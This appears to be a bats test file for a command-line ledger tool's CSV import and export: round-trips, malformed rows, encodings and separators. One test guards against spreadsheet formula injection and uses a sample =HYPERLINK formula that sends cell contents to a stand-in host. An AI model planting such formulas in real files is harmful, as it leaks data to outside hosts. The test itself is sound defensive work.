#!/usr/bin/env bats
# rapport import and export: CSV rows through the ledger, all or none;
# every kind round-trips; malformed files name the row and the column and
# leave the database as it was.

load helper

# A second database with the same buyer and partner (id 1).
fresh_db() {
	in_db "$1" init_db
}

# round_trip KIND FILE: imports FILE, exports the kind, imports the export
# into a fresh database with the same partner (after the orders' export,
# when there is one: an order's payments and milestones are found by its
# PO), exports again: both exports are the same bytes.
round_trip() {
	local kind=$1 file=$2
	rapport import --kind "$kind" "$file" >/dev/null
	rapport export --partner 1 --kind "$kind" --out "first-$kind.csv"
	fresh_db "copy-$kind"
	if [ "$kind" != orders ] && [ -e first-orders.csv ]; then
		in_db "copy-$kind" rapport import --kind orders first-orders.csv >/dev/null 2>&1
	fi
	in_db "copy-$kind" rapport import --kind "$kind" "first-$kind.csv" >/dev/null
	in_db "copy-$kind" rapport export --partner 1 --kind "$kind" --out "second-$kind.csv"
	cmp "first-$kind.csv" "second-$kind.csv"
}

# records KIND: rapport KIND --json without the ids, which are each
# database's own (an import makes them in the file's order).
records() {
	rapport "$1" --json | python3 -c 'import json, sys; print(json.dumps([{k: v for k, v in r.items() if k not in ("id", "order")} for r in json.load(sys.stdin)]))'
}

@test "orders import with the milestones and payments order add makes, and round-trip" {
	init_db
	printf 'po,style,qty,price,currency,ex_factory,at\n' >orders.csv
	printf 'LR-2027-014,"Cable crew, W27",2400,18.40,USD,2027-03-15,2026-11-20T10:00Z\n' >>orders.csv
	run --separate-stderr rapport import --kind orders --partner 1 orders.csv
	[ "$status" -eq 0 ]
	[ "$output" = "orders.csv: imported 1 row of orders (9 events)" ]
	# the warning of order add, named by file and row
	[ "$stderr" = 'orders.csv:2: warning: "LR-2027-014: production start" due 2027-02-13 falls on a day off at Dongguan Evergreen Knitwear (CN: Spring Festival factory closure); their next working day is 2027-02-16' ]
	# the same order by hand in another database: the same records
	fresh_db byhand
	in_db "byhand" rapport order add --partner 1 --po LR-2027-014 --style "Cable crew, W27" \
		--qty 2400 --price 18.40 --currency USD --ex-factory 2027-03-15 --at 2026-11-20T10:00Z 2>/dev/null
	local what
	for what in orders commitments payments; do
		[ "$(rapport "$what" --json)" = "$(in_db "byhand" rapport "$what" --json)" ]
	done
	# hand-worked, as in t0220: 60, 45, 30, 14, 3 and 0 days before ex-factory
	run rapport commitments --json
	[ "$(echo "$output" | python3 -c 'import json,sys; print(" ".join(c["due"] for c in json.load(sys.stdin)))')" = \
		"2027-01-14 2027-01-29 2027-02-13 2027-03-01 2027-03-12 2027-03-15" ]
	run rapport payments --json
	[ "$(echo "$output" | json_get '[0]["amount"]')" = "13248.00" ]
	[ "$(echo "$output" | json_get '[1]["amount"]')" = "30912.00" ]
	rapport verify >/dev/null
	# export: the importer's header, the partner, times in UTC, CRLF
	rapport export --partner 1 --kind orders --out out.csv
	[ "$(cat out.csv)" = "$(printf 'partner,po,style,qty,price,currency,ex_factory,at\r\n1,LR-2027-014,"Cable crew, W27",2400,18.40,USD,2027-03-15,2026-11-20T10:00:00Z\r')" ]
	fresh_db copy
	in_db "copy" rapport import --kind orders out.csv >/dev/null 2>&1
	for what in orders commitments payments; do
		[ "$(rapport "$what" --json)" = "$(in_db "copy" rapport "$what" --json)" ]
	done
}

@test "a value a spreadsheet would run as a formula is exported as text and imports back unchanged" {
	init_db
	# a note the factory typed: =HYPERLINK(...) would run in the buyer's spreadsheet
	rapport contact --partner 1 --by partner --kind email --at 2026-11-20T09:00Z \
		--note '=HYPERLINK("http://x.example/?"&A1,"Click")' >/dev/null
	rapport contact --partner 1 --by partner --kind call --at 2026-11-21T09:00Z --note '+86 20 8888 0000' >/dev/null
	rapport contact --partner 1 --by partner --kind call --at 2026-11-22T09:00Z --note "'=already quoted" >/dev/null
	rapport contact --partner 1 --by partner --kind call --at 2026-11-23T09:00Z --note "it's fine" >/dev/null
	rapport export --partner 1 --kind contacts --out c.csv
	[ "$(sed -n 2p c.csv)" = "$(printf '1,partner,email,"'"'"'=HYPERLINK(""http://x.example/?""&A1,""Click"")",2026-11-20T09:00:00Z\r')" ]
	[ "$(sed -n 3p c.csv)" = "$(printf "1,partner,call,'+86 20 8888 0000,2026-11-21T09:00:00Z\r")" ]
	[ "$(sed -n 4p c.csv)" = "$(printf "1,partner,call,''=already quoted,2026-11-22T09:00:00Z\r")" ]
	[ "$(sed -n 5p c.csv)" = "$(printf "1,partner,call,it's fine,2026-11-23T09:00:00Z\r")" ]
	# Python's csv module, as a spreadsheet reads cells: none starts with =, +, -, @
	python3 -c '
import csv
for row in csv.reader(open("c.csv", newline="")):
    for cell in row:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell'
	fresh_db copy
	in_db "copy" rapport import --kind contacts c.csv >/dev/null
	[ "$(in_db "copy" rapport contacts --json | json_get '[0]["note"]')" = '=HYPERLINK("http://x.example/?"&A1,"Click")' ]
	[ "$(rapport contacts --json)" = "$(in_db "copy" rapport contacts --json)" ]
}

@test "every kind round-trips through export into a fresh database" {
	init_db
	printf 'partner,po,style,qty,price,currency,ex_factory\n1,P-1,Rib,100,2.5,EUR,2027-05-10\n1,P-2,"Crew ""Lux""",3,0.3333,USD,2027-06-01\n' >orders.csv
	round_trip orders orders.csv 2>/dev/null
	printf 'partner,amount,currency,due,label,at\n1,5000.00,USD,2026-12-01,sample run,2026-11-02\n1,12.5,EUR,2027-01-15,,\n' >payments.csv
	round_trip payments payments.csv
	printf 'partner,by,kind,note,at\n1,buyer,video,"Lab dips: shade 2 approved,\nshade 3 redo",2026-11-20T09:00+08:00\n1,partner,email,,2026-11-21\n' >contacts.csv
	round_trip contacts contacts.csv
	printf 'partner,side,name,role,lang\n1,partner,陈静,qc,zh\n1,buyer,Tom Hartley,qc,\n1,partner," Lan ",manager,vi\n' >people.csv
	round_trip people people.csv
	printf 'partner,side,what,due\n1,buyer,Approve the lab dips,2026-12-04\n1,partner,Send trims card,2026-12-10\n' >commitments.csv
	round_trip commitments commitments.csv
	# values worked out by hand survive: the note's line break, quotes,
	# spaces kept by quoting, local times as UTC
	run rapport contacts --json
	echo "$output" | json_is 'v[0]["note"]' '"Lab dips: shade 2 approved,\nshade 3 redo"'
	echo "$output" | json_is 'v[0]["at"]' '"2026-11-20T01:00:00Z"'
	echo "$output" | json_is 'v[1]["at"]' '"2026-11-21T00:00:00Z"'
	run rapport people --json
	echo "$output" | json_is '[p["name"] for p in v]' '["Tom Hartley", " Lan ", "陈静"]'
	grep -q '^1,partner," Lan ",manager,vi' first-people.csv
	run rapport orders --json
	echo "$output" | json_is 'v[1]["style"]' '"Crew \"Lux\""'
	# an order's milestones and payments are exported with its PO, after
	# the others made before them: two promises and two orders' six
	# milestones, two payments and two orders' deposit and balance
	[ "$(rapport export --partner 1 --kind commitments | wc -l)" -eq $((1 + 12 + 2)) ]
	[ "$(rapport export --partner 1 --kind payments | wc -l)" -eq $((1 + 4 + 2)) ]
	[ "$(rapport export --partner 1 --kind commitments | grep -c ',P-[12],')" -eq 12 ]
	rapport export --partner 1 --kind payments | grep -q '^1,0.30,USD,.*,deposit,.*,,,P-2'"$(printf '\r')"'$'
	# and the copies hold one of each, not two: the import found the order's
	in_db copy-payments rapport payments --json | json_is 'len(v)' 6
	in_db copy-commitments rapport commitments --json | json_is 'len(v)' 14
}

@test "payments already paid and commitments already kept or broken import closed, as by hand, and round-trip" {
	init_db
	printf 'amount,currency,due,label,at,paid,paid_amount\n' >payments.csv
	# paid on 2026-10-20 in London, still summer time: 2026-10-19T23:00Z
	printf '5000.00,USD,2026-11-01,sample run,2026-10-02,2026-10-20,\n' >>payments.csv
	printf '1200.00,USD,2026-11-10,tooling,2026-10-05,2026-11-14T08:00Z,1000.00\n' >>payments.csv
	printf '300.00,EUR,2026-12-20,air freight,2026-11-20,,\n' >>payments.csv
	printf '80.00,USD,2026-11-05,courier,,2026-11-03,\n' >>payments.csv
	# recorded as agreed after it was paid, as payment paid --at allows
	printf '45.00,USD,2026-11-20,customs,2026-11-22,2026-11-18,\n' >>payments.csv
	run --separate-stderr rapport import --kind payments --partner 1 payments.csv
	[ "$status" -eq 0 ]
	[ "$output" = "payments.csv: imported 5 rows of payments (9 events)" ]
	printf 'side,what,due,at,outcome,closed,reason\n' >commitments.csv
	printf 'partner,Send the trims card,2026-11-10,2026-11-01,kept,2026-11-09,\n' >>commitments.csv
	printf 'buyer,Approve the lab dips,2026-11-12,2026-11-01,kept,2026-11-16,\n' >>commitments.csv
	printf 'partner,Ship the salesman samples,2026-11-15,2026-11-02,broken,2026-11-18,"Courier strike, resent by air"\n' >>commitments.csv
	printf 'buyer,Confirm the colourways,2026-12-04,2026-11-20,,,\n' >>commitments.csv
	run --separate-stderr rapport import --kind commitments --partner 1 commitments.csv
	[ "$status" -eq 0 ]
	[ "$output" = "commitments.csv: imported 4 rows of commitments (7 events)" ]

	# the same by hand in another database: the same records and the same scores
	fresh_db byhand
	local id
	hand() { in_db byhand rapport "$@" 2>/dev/null; }
	id=$(hand payment due --partner 1 --amount 5000.00 --currency USD --due 2026-11-01 --label "sample run" --at 2026-10-02)
	hand payment paid "$id" --at 2026-10-20 >/dev/null
	id=$(hand payment due --partner 1 --amount 1200.00 --currency USD --due 2026-11-10 --label tooling --at 2026-10-05)
	hand payment paid "$id" --amount 1000.00 --at 2026-11-14T08:00Z >/dev/null
	hand payment due --partner 1 --amount 300.00 --currency EUR --due 2026-12-20 --label "air freight" --at 2026-11-20 >/dev/null
	# no "at": agreed when it was paid, not after
	id=$(hand payment due --partner 1 --amount 80.00 --currency USD --due 2026-11-05 --label courier --at 2026-11-03)
	hand payment paid "$id" --at 2026-11-03 >/dev/null
	id=$(hand payment due --partner 1 --amount 45.00 --currency USD --due 2026-11-20 --label customs --at 2026-11-22)
	hand payment paid "$id" --at 2026-11-18 >/dev/null
	id=$(hand commitment add --partner 1 --side partner --what "Send the trims card" --due 2026-11-10 --at 2026-11-01)
	hand commitment keep "$id" --at 2026-11-09 >/dev/null
	id=$(hand commitment add --partner 1 --side buyer --what "Approve the lab dips" --due 2026-11-12 --at 2026-11-01)
	hand commitment keep "$id" --at 2026-11-16 >/dev/null
	id=$(hand commitment add --partner 1 --side partner --what "Ship the salesman samples" --due 2026-11-15 --at 2026-11-02)
	hand commitment break "$id" --reason "Courier strike, resent by air" --at 2026-11-18 >/dev/null
	hand commitment add --partner 1 --side buyer --what "Confirm the colourways" --due 2026-12-04 --at 2026-11-20 >/dev/null
	local what
	for what in payments commitments; do
		[ "$(rapport "$what" --json)" = "$(in_db byhand rapport "$what" --json)" ]
	done
	[ "$(rapport score --partner 1 --json)" = "$(in_db byhand rapport score --partner 1 --json)" ]
	# worked by hand: paid 2026-10-20 for 2026-11-01 is on time, 2026-11-14 for 2026-11-10 four days late
	run rapport payments --json
	echo "$output" | json_is '[p["paid"] for p in v]' '["2026-10-19T23:00:00Z", "2026-11-03T00:00:00Z", "2026-11-14T08:00:00Z", "2026-11-18T00:00:00Z", null]'
	echo "$output" | json_is '[p["days_late"] for p in v]' '[0, 0, 4, 0, 0]'
	# paid in full: the amount paid is the amount
	echo "$output" | json_is '[p["paid_amount"] for p in v]' '["5000.00", "80.00", "1000.00", "45.00", null]'
	run rapport commitments --json
	echo "$output" | json_is '[c["state"] for c in v]' '["kept", "kept", "broken", "open"]'
	echo "$output" | json_is '[c["days_late"] for c in v]' '[0, 4, 0, 0]'
	rapport verify >/dev/null

	# export writes the outcome back; the import of an export is the same record
	rapport export --partner 1 --kind payments --out p.csv
	[ "$(sed -n 1p p.csv)" = "$(printf 'partner,amount,currency,due,label,at,paid,paid_amount,po\r')" ]
	[ "$(sed -n 2p p.csv)" = "$(printf '1,5000.00,USD,2026-11-01,sample run,2026-10-01T23:00:00Z,2026-10-19T23:00:00Z,5000.00,\r')" ]
	[ "$(sed -n 3p p.csv)" = "$(printf '1,1200.00,USD,2026-11-10,tooling,2026-10-04T23:00:00Z,2026-11-14T08:00:00Z,1000.00,\r')" ]
	# in the order they were agreed: the courier (agreed when paid, 3
	# November) before the air freight agreed on 20 November
	[ "$(sed -n 4p p.csv)" = "$(printf '1,80.00,USD,2026-11-05,courier,2026-11-03T00:00:00Z,2026-11-03T00:00:00Z,80.00,\r')" ]
	[ "$(sed -n 5p p.csv | cut -d, -f2,5)" = "300.00,air freight" ]
	[ "$(sed -n 6p p.csv)" = "$(printf '1,45.00,USD,2026-11-20,customs,2026-11-22T00:00:00Z,2026-11-18T00:00:00Z,45.00,\r')" ]
	rapport export --partner 1 --kind commitments --out c.csv
	[ "$(sed -n 1p c.csv)" = "$(printf 'partner,side,what,due,at,outcome,closed,reason,po,milestone,first_due,renegotiated\r')" ]
	[ "$(sed -n 4p c.csv)" = "$(printf '1,partner,Ship the salesman samples,2026-11-15,2026-11-02T00:00:00Z,broken,2026-11-18T00:00:00Z,"Courier strike, resent by air",,,,\r')" ]
	[ "$(sed -n 5p c.csv)" = "$(printf '1,buyer,Confirm the colourways,2026-12-04,2026-11-20T00:00:00Z,,,,,,,\r')" ]
	fresh_db copy
	in_db copy rapport import --kind payments p.csv >/dev/null
	in_db copy rapport import --kind commitments c.csv >/dev/null
	for what in payments commitments; do
		[ "$(records "$what")" = "$(in_db copy records "$what")" ]
	done
	[ "$(rapport score --partner 1 --json)" = "$(in_db copy rapport score --partner 1 --json)" ]
}

@test "an outcome that does not fit its row is refused, naming the column, and changes nothing" {
	init_db
	printf 'amount,currency,due,at,paid,paid_amount\n' >p.csv
	printf '10.00,USD,2026-11-01,2026-10-02,,\n' >>p.csv
	printf '10.00,USD,2026-11-01,2026-10-02,2026-12-01,\n' >>p.csv
	printf '10.00,USD,2026-11-01,2026-10-02,2026-10-30,"1,000"\n' >>p.csv
	printf '10.00,USD,2026-11-01,2026-10-02,,8.00\n' >>p.csv
	printf '10.00,USD,2026-11-01,2026-10-02,last week,\n' >>p.csv
	refuses 2 'p.csv:3: column "paid": in the future; record events once they have happened' import --kind payments --partner 1 p.csv
	refuses 2 'p.csv:4: column "paid_amount": not a positive decimal with at most 4 places (e.g. 12.50): "1,000"' \
		import --kind payments --partner 1 p.csv
	refuses 2 'p.csv:5: column "paid_amount": given without "paid"' import --kind payments --partner 1 p.csv
	refuses 2 'p.csv:6: column "paid": not an ISO-8601 time: "last week" (want YYYY-MM-DD[THH:MM[:SS]][Z|+HH:MM])' \
		import --kind payments --partner 1 p.csv
	refuses 2 'rapport: p.csv: 4 bad rows; nothing was imported' import --kind payments --partner 1 p.csv
	printf 'side,what,due,outcome,closed,reason\n' >c.csv
	printf 'partner,Trims,2026-11-10,done,2026-11-09,\n' >>c.csv
	printf 'partner,Trims,2026-11-10,kept,,\n' >>c.csv
	printf 'partner,Trims,2026-11-10,,2026-11-09,\n' >>c.csv
	printf 'partner,Trims,2026-11-10,kept,2026-11-09,Late\n' >>c.csv
	refuses 2 'c.csv:2: column "outcome": "done" is not kept or broken (leave it empty while it is open)' \
		import --kind commitments --partner 1 c.csv
	refuses 2 'c.csv:3: column "closed": required with outcome "kept" (when it was kept)' import --kind commitments --partner 1 c.csv
	refuses 2 'c.csv:4: column "outcome": required with "closed" (kept or broken)' import --kind commitments --partner 1 c.csv
	refuses 2 'c.csv:5: column "reason": not for outcome "kept"' import --kind commitments --partner 1 c.csv
	refuses 2 'rapport: c.csv: 4 bad rows; nothing was imported' import --kind commitments --partner 1 c.csv
}

@test "export as JSON has the same names, numbers as numbers and empty cells as null" {
	init_db
	printf 'side,name,role\npartner,Chen Jing,qc\n' | rapport import --kind people --partner 1 - >/dev/null
	run rapport export --partner 1 --kind people --format json
	[ "$status" -eq 0 ]
	echo "$output" | json_is 'v' '[{"partner": 1, "side": "partner", "name": "Chen Jing", "role": "qc", "lang": null, "at": "2026-11-25T10:00:00Z"}]'
	echo "$output" | json_is 'list(v[0].keys())' '["partner", "side", "name", "role", "lang", "at"]'
	refuses 2 "--out: required for a bundle (or --kind for rows as CSV or JSON)" export --partner 1
	refuses 2 "--format: only with --kind" export --partner 1 --format csv --out x.csv
	refuses 2 '--format: csv or json: "xml"' export --partner 1 --kind people --format xml
	refuses 2 "--partner: no partner with id 9" export --partner 9 --kind people
}

@test "a malformed file names the row and the column and changes nothing" {
	init_db
	rapport order add --partner 1 --po LR-1 --style S --qty 1 --price 1 --currency USD --ex-factory 2027-06-01
	# unterminated quote: the record starts on row 3
	printf 'po,style,qty,price,currency,ex_factory\nA,S,1,1,USD,2027-06-01\nB,"Rib,1,1,USD,2027-06-01\nC,S,1,1,USD,2027-06-01\n' >quote.csv
	refuses 2 'quote.csv:3: column "style": a quoted value has no closing quote' import --kind orders --partner 1 quote.csv
	# a quote inside an unquoted value
	printf 'po,style,qty,price,currency,ex_factory\nA,Rib 5",1,1,USD,2027-06-01\n' >bare.csv
	refuses 2 'bare.csv:2: column "style": a quote inside an unquoted value' import --kind orders --partner 1 bare.csv
	# wrong column count
	printf 'po,style,qty,price,currency,ex_factory\nA,S,1,1,USD\nB,S,1,1,USD,2027-06-01,x\n' >count.csv
	refuses 2 'count.csv:2: column "ex_factory": missing (the row has 5 values, the header 6)' \
		import --kind orders --partner 1 count.csv
	refuses 2 'count.csv:3: column 7: a value beyond the header'"'"'s 6 columns: "x" (a comma that should be quoted?)' \
		import --kind orders --partner 1 count.csv
	# bad dates
	printf 'side,what,due\nbuyer,Approve,31/02/2026\nbuyer,Approve,2026-02-30\n' >dates.csv
	refuses 2 'dates.csv:2: column "due": not a date: "31/02/2026" (want YYYY-MM-DD)' \
		import --kind commitments --partner 1 dates.csv
	refuses 2 'dates.csv:3: column "due": no such date: "2026-02-30"' import --kind commitments --partner 1 dates.csv
	# bad numbers
	printf 'po,style,qty,price,currency,ex_factory\nA,S,ten,1,USD,2027-06-01\nB,S,5,"12,50",USD,2027-06-01\n' >num.csv
	refuses 2 'num.csv:2: column "qty": not a whole number: "ten"' import --kind orders --partner 1 num.csv
	refuses 2 'num.csv:3: column "price": not a positive decimal with at most 4 places (e.g. 12.50): "12,50"' \
		import --kind orders --partner 1 num.csv
	# unknown partner
	printf 'partner,by,kind\n1,buyer,call\n7,buyer,call\nx,buyer,call\n' >partner.csv
	refuses 2 'partner.csv:3: column "partner": no partner with id 7' import --kind contacts partner.csv
	refuses 2 'partner.csv:4: column "partner": not a partner id (a positive integer): "x"' import --kind contacts partner.csv
	refuses 2 'partner.csv:3: column "partner": 7, but --partner says 1' import --kind contacts --partner 1 partner.csv
	# duplicate PO, within the file and against the database
	printf 'po,style,qty,price,currency,ex_factory\nA,S,1,1,USD,2027-06-01\nLR-1,S,1,1,USD,2027-06-01\nB,S,1,1,USD,2027-06-01\nA,S,2,1,USD,2027-06-01\n' >dup.csv
	refuses 2 'dup.csv:3: column "po": order LR-1 already exists (#2)' import --kind orders --partner 1 dup.csv
	refuses 2 'dup.csv:5: column "po": order A is already on row 2 of this file' import --kind orders --partner 1 dup.csv
	# an ex-factory date whose first milestone (60 days before) or balance
	# (30 days after, the default terms) falls outside 1970 to 9999
	printf 'po,style,qty,price,currency,ex_factory\nA,S,1,1,USD,1970-03-01\nB,S,1,1,USD,9999-12-15\nC,S,1,1,USD,1969-12-31\n' >range.csv
	refuses 2 'range.csv:2: column "ex_factory": too early: its first milestone would be due 60 days before it, before 1970' \
		import --kind orders --partner 1 range.csv
	refuses 2 'range.csv:3: column "ex_factory": too late: its balance would be due 30 days after it, after 9999' \
		import --kind orders --partner 1 range.csv
	refuses 2 'range.csv:4: column "ex_factory": before 1970: "1969-12-31"' import --kind orders --partner 1 range.csv
	# a long value is quoted to 40 bytes, cut at a whole character
	printf 'po,style,qty,price,currency,ex_factory\nA,S,1%s,1,USD,2027-06-01\nB,S,1,1,%s,2027-06-01\n' \
		"$(printf '陈%.0s' $(seq 200))" "$(printf '静%.0s' $(seq 200))" >long.csv
	refuses 2 "long.csv:2: column \"qty\": not a whole number: \"1$(printf '陈%.0s' $(seq 13))\"" \
		import --kind orders --partner 1 long.csv
	refuses 2 "long.csv:3: column \"currency\": \"$(printf '静%.0s' $(seq 13))\" is not an ISO 4217 currency code" \
		import --kind orders --partner 1 long.csv
	run --separate-stderr rapport import --kind orders --partner 1 long.csv
	iconv -f UTF-8 -t UTF-8 <<<"$stderr" >/dev/null
	# invalid UTF-8 (Latin-1 é)
	printf 'by,kind,note\nbuyer,call,Caf\xe9 meeting\n' >latin1.csv
	refuses 2 'latin1.csv:2: column "note": not valid UTF-8 (byte 4 of the value): save the file as CSV UTF-8, or name its encoding' \
		import --kind contacts --partner 1 latin1.csv
	# the summary
	refuses 2 'rapport: dup.csv: 2 bad rows; nothing was imported' import --kind orders --partner 1 dup.csv
}

@test "the header names the columns: unknown ones and missing ones are refused" {
	init_db
	printf 'po,style,colour,qty,price,currency,ex_factory\n' >h1.csv
	refuses 2 'h1.csv:1: unknown column "colour" (orders have: partner, po, style, qty, price, currency, ex_factory, at)' \
		import --kind orders --partner 1 h1.csv
	printf 'PO,Style,Qty\nA,S,1\n' >h2.csv
	refuses 2 'h2.csv:1: missing columns "price", "currency", "ex_factory" (required for orders)' \
		import --kind orders --partner 1 h2.csv
	printf 'side,name,role\npartner,X,qc\n' >h3.csv
	refuses 2 'h3.csv:1: missing column "partner" (required for people; or give the partner with --partner)' \
		import --kind people h3.csv
	: >empty.csv
	refuses 2 'empty.csv: no header row (the file is empty)' import --kind people --partner 1 empty.csv
	refuses 2 '--kind: orders, payments, contacts, people or commitments: "order"' import --kind order --partner 1 h3.csv
	refuses 2 'nothere.csv: No such file or directory' import --kind people --partner 1 nothere.csv
	refuses 2 'import: which file?' import --kind people --partner 1
}

@test "a byte order mark, CRLF line ends and a quoted note over several lines are read, rows counted right" {
	init_db
	# BOM and CRLF: the header is recognised, the row numbers are lines
	printf '\xef\xbb\xbfBy,Kind,Note\r\nbuyer,call,first\r\n\r\npartner,visit,third\r\n' >bom.csv
	run rapport import --kind contacts --partner 1 bom.csv
	[ "$status" -eq 0 ]
	[ "$output" = "bom.csv: imported 2 rows of contacts (2 events)" ]
	run rapport contacts --json
	echo "$output" | json_is '[c["note"] for c in v]' '["first", "third"]'
	# a note over three lines (CRLF inside the quotes kept): the next row is line 5
	printf 'by,kind,note\r\nbuyer,call,"Line one\r\nline two\r\nline three"\r\nbuyer,fax,x\r\n' >multi.csv
	refuses 2 'multi.csv:5: column "kind": must be one of call|video|message|email|meeting|visit' \
		import --kind contacts --partner 1 multi.csv
	printf 'by,kind,note\nbuyer,call,"Line one\nline two"\n' >multi2.csv
	rapport import --kind contacts --partner 1 multi2.csv >/dev/null
	run rapport contacts --json
	echo "$output" | json_is 'v[2]["note"]' '"Line one\nline two"'
	# a spreadsheet's empty row is skipped
	printf 'by,kind\nbuyer,call\n,\n' >blank.csv
	run rapport import --kind contacts --partner 1 blank.csv
	[ "$output" = "blank.csv: imported 1 row of contacts (1 event)" ]
}

@test "what spreadsheets save: empty columns, other separators, UTF-16, a line break in a one-line field" {
	init_db
	# Excel's empty column at the end: every row ends in a comma; an empty
	# column in the middle too, as long as its cells are empty
	printf 'By,,Kind,Note,\r\nbuyer,,call,first,\r\npartner,,visit,second\r\nbuyer,,email,third,,\r\n' >excel.csv
	run --separate-stderr rapport import --kind contacts --partner 1 excel.csv
	[ "$status" -eq 0 ]
	[ "$output" = "excel.csv: imported 3 rows of contacts (3 events)" ]
	run rapport contacts --json
	echo "$output" | json_is '[c["note"] for c in v]' '["first", "second", "third"]'
	printf 'by,,kind\nbuyer,,call\nbuyer,oops,call\n' >stray.csv
	refuses 2 'stray.csv:3: column 2: the header gives it no name, but this row has a value in it: "oops"' \
		import --kind contacts --partner 1 stray.csv
	# saved with semicolons or tabs: the separator is named
	printf 'By;Kind;Note\nbuyer;call;x\n' >semi.csv
	refuses 2 'semi.csv:1: the header "By;Kind;Note" reads as one name: the file separates its values with semicolons, not commas (save it as CSV UTF-8, comma-delimited)' \
		import --kind contacts --partner 1 semi.csv
	printf 'By\tKind\nbuyer\tcall\n' >tabs.csv
	refuses 2 'the file separates its values with tabs, not commas' import --kind contacts --partner 1 tabs.csv
	# the same with every name quoted, as some spreadsheets and ERPs save it
	printf '\xef\xbb\xbf"By";"Kind";"Note"\r\n"buyer";"call";"x"\r\n' >qsemi.csv
	refuses 2 'qsemi.csv:1: the file separates its values with semicolons, not commas (save it as CSV UTF-8, comma-delimited)' \
		import --kind contacts --partner 1 qsemi.csv
	printf '"by"\t"kind"\n' >qtabs.csv
	refuses 2 'qtabs.csv:1: the file separates its values with tabs, not commas' import --kind contacts --partner 1 qtabs.csv
	# a quoted value run on in a row below the header is that row's fault
	printf 'by,kind,note\n"buyer";"call";"x"\n' >qrow.csv
	refuses 2 'qrow.csv:2: column "by": text after the closing quote of a quoted value' import --kind contacts --partner 1 qrow.csv
	# a name with a semicolon in a comma-separated header is only unknown
	printf 'by,kind,note,Notes; internal\nbuyer,call,x,y\n' >semi2.csv
	refuses 2 'semi2.csv:1: unknown column "Notes; internal" (contacts have: partner, by, kind, note, at)' \
		import --kind contacts --partner 1 semi2.csv
	# UTF-16 from a pipe, which cannot be read twice to tell: the file's
	# fault, not a column's (a file is read by its byte order mark, below)
	printf '\xff\xfeb\x00y\x00\n\x00' >u16.csv
	run --separate-stderr rapport import --kind contacts --partner 1 - < <(cat u16.csv)
	[ "$status" -eq 2 ]
	[ "$stderr" = "$(printf '(stdin):1: the file is UTF-16: save it as CSV UTF-8, or name its encoding\nrapport: (stdin): nothing was imported')" ]
	# a line break inside a quoted style: the style is one line
	printf 'po,style,qty,price,currency,ex_factory\r\nA,"Cable\r\ncrew",1,1,USD,2027-06-01\r\n' >style.csv
	refuses 2 'style.csv:2: column "style": a line break at byte 5 (this field takes one line)' \
		import --kind orders --partner 1 style.csv
	# a header and nothing under it imports nothing, and says so
	printf 'by,kind,note\n' >hdr.csv
	run --separate-stderr rapport import --kind contacts --partner 1 hdr.csv
	[ "$status" -eq 0 ]
	[ "$output" = "hdr.csv: imported 0 rows of contacts (0 events)" ]
	[ "$stderr" = "rapport: warning: hdr.csv: no rows under the header: nothing to import" ]
}

@test "a file saved in another encoding is read with --encoding, and UTF-16 by its byte order mark" {
	init_db
	# Excel's CSV on a Chinese Windows is GB18030: 陈静 is B3C2 BEB2, 王伟 CDF5 CEB0
	printf 'side,name,role,lang\r\npartner,\xb3\xc2\xbe\xb2,qc,zh\r\npartner,"\xcd\xf5\xce\xb0",manager,zh\r\n' >gbk.csv
	refuses 2 'gbk.csv:2: column "name": not valid UTF-8 (byte 1 of the value): save the file as CSV UTF-8, or name its encoding' \
		import --kind people --partner 1 gbk.csv
	run --separate-stderr rapport import --kind people --partner 1 --encoding gb18030 gbk.csv --dry-run
	[ "$status" -eq 0 ]
	[ "$output" = "gbk.csv: 2 rows of people would be imported (2 events); --dry-run: nothing was written" ]
	run --separate-stderr rapport import --kind people --partner 1 --encoding GB18030 gbk.csv
	[ "$status" -eq 0 ]
	[ "$output" = "gbk.csv: imported 2 rows of people (2 events)" ]
	run rapport people --partner 1 --json
	echo "$output" | json_is 'sorted(p["name"] for p in v)' '["王伟", "陈静"]'
	# Vietnamese Windows-1258: ê (EA) and the combining acute (EC) are ế;
	# UTF-16 (Excel's "Unicode text") by its byte order mark, no --encoding
	printf 'by,kind,note\nbuyer,call,T\xea\xect\n' >vn.csv
	rapport import --kind contacts --partner 1 --encoding windows-1258 vn.csv >/dev/null
	printf 'by,kind,note\nbuyer,call,陈静\n' | iconv -f UTF-8 -t UTF-16 >u16.csv
	run --separate-stderr rapport import --kind contacts --partner 1 u16.csv
	[ "$status" -eq 0 ]
	[ "$output" = "u16.csv: imported 1 row of contacts (1 event)" ]
	# standard input that is a file is read twice as well as a file named
	run --separate-stderr rapport import --kind contacts --partner 1 --dry-run - <u16.csv
	[ "$status" -eq 0 ]
	[ "$output" = "(stdin): 1 row of contacts would be imported (1 event); --dry-run: nothing was written" ]
	run rapport contacts --json
	echo "$output" | json_is '[c["note"] for c in v]' '["Tết", "陈静"]'
	# the same rows typed in UTF-8 into another database: the same records
	fresh_db utf8
	printf 'side,name,role,lang\npartner,陈静,qc,zh\npartner,王伟,manager,zh\n' >p8.csv
	printf 'by,kind,note\nbuyer,call,Tết\nbuyer,call,陈静\n' >c8.csv
	in_db utf8 rapport import --kind people --partner 1 p8.csv >/dev/null
	in_db utf8 rapport import --kind contacts --partner 1 c8.csv >/dev/null
	[ "$(rapport export --partner 1 --kind people)" = "$(in_db utf8 rapport export --partner 1 --kind people)" ]
	[ "$(rapport export --partner 1 --kind contacts | cut -d, -f1-4)" = \
		"$(in_db utf8 rapport export --partner 1 --kind contacts | cut -d, -f1-4)" ]
	# a byte the encoding has no character for: its line and its place in
	# the file, and nothing written (0x81 is not Windows-1252)
	printf 'by,kind,note\nbuyer,call,ok\nbuyer,call,caf\x81\n' >cp.csv
	refuses 2 'cp.csv:3: byte 42 of the file is not windows-1252 text: is the file in another encoding? (--encoding)' \
		import --kind contacts --partner 1 --encoding windows-1252 cp.csv
	refuses 2 'rapport: cp.csv: nothing was imported' import --kind contacts --partner 1 --encoding windows-1252 cp.csv
	# a GBK character the file ends in the middle of
	printf 'by,kind,note\nbuyer,call,\xb3' >cut.csv
	refuses 2 'cut.csv:2: byte 25 of the file is not gbk text' import --kind contacts --partner 1 --encoding gbk cut.csv
	refuses 2 '--encoding: "klingon" is not an encoding this system knows' \
		import --kind contacts --partner 1 --encoding klingon cp.csv
	refuses 2 '--encoding: "utf-8//TRANSLIT" is not an encoding this system knows' \
		import --kind contacts --partner 1 --encoding utf-8//TRANSLIT cp.csv
	# from a pipe, with --encoding
	run --separate-stderr rapport import --kind contacts --partner 1 --encoding gb18030 --dry-run - \
		< <(printf 'by,kind,note\nbuyer,call,\xb3\xc2\n')
	[ "$status" -eq 0 ]
